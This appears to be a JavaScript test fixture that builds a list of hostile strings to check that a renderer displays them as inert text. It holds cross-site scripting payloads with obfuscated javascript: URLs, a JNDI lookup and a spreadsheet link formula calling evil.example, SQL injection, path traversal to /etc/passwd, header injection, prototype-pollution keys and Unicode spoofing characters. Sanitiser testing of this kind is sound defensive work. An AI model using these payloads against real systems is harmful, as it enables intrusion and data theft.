// hostile.mjs - strings that mean harm: to be shown as what they are, wherever they stand.
//
// By hand where a trick needs its own shape, made from parts where the combination counts.

const run = 'window.harmed=1';

/** Something that runs, if anything does. */
const payloads = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<template><img src=x onerror=${run}></template>`,
  `<x onclick=${run} contenteditable autofocus>x</x>`,
];

/** Ways out of where one stands. */
const around = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}<!--`,
  (text) => `</title></textarea></style></script>${text}`,
  (text) => `[![${text}](${text})](${text})`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java&Tab;script:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `\u0001javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE8L3NjcmlwdD4=`,
  'blob:https://evil.example/0',
  'file:///etc/passwd',
  '//evil.example/\\@good.example',
];

const markdown = [
  (to) => `[x](${to})`,
  (to) => `![x](${to})`,
  (to) => `<${to}>`,
  (to) => `[x][1]\n\n[1]: ${to}`,
  (to) => `[x](<${to}> "t\\" onmouseover=${run} x=\\"")`,
];

const byHand = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'then',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '{"__proto__":{"harmed":1}}',
  '{{constructor.constructor("window.harmed=1")()}}',
  '${window.harmed=1}',
  '#{window.harmed=1}',
  '<%= window.harmed=1 %>',
  '{% import os %}',
  `\${jndi:ldap://evil.example/x}`,
  "'; DROP TABLE cards; --",
  '../../../etc/passwd',
  '%00%0d%0aSet-Cookie: a=b',
  'a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK',
  '=HYPERLINK("http://evil.example","x")',
  '\u202egnp.exe\u202c',
  '\u2066\u2067left\u2069\u2069',
  '\u200b\u200c\u200d\ufeff|',
  'a\u0300'.repeat(200),
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f',
  '\ufdfd\u{1242b}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\u061c\u180e\u2028\u2029|',
  '\u0007\u001b[31mred\u001b[0m',
  'background:url(javascript:window.harmed=1)',
  'x" style="position:fixed;inset:0" x="',
  'expression(window.harmed=1)',
  '*'.repeat(2000),
  '['.repeat(1000),
  '> '.repeat(500),
  `${'- '.repeat(200)}x`,
  '<'.repeat(3000),
  '`'.repeat(999),
  'W'.repeat(16_000),
  '| a |\n| - |\n| <img src=x onerror=window.harmed=1> |',
  '```html\n<script>window.harmed=1</script>\n```',
  '&lt;script&gt;window.harmed=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.harmed=1&#62;',
  '<<script>script>window.harmed=1<</script>/script>',
  '- [x] <input type=checkbox onclick=window.harmed=1>',
  'http://evil.example/"onmouseover="window.harmed=1',
  'www.evil.example/<script>window.harmed=1</script>',
  'mailto:x@evil.example?subject="><script>window.harmed=1</script>',
];

/** @type {readonly string[]} */
export const hostile = [
  ...new Set([
    ...payloads.flatMap((payload) => around.map((wrap) => wrap(payload))),
    ...addresses.flatMap((to) => markdown.map((write) => write(to))),
    ...byHand,
  ]),
];
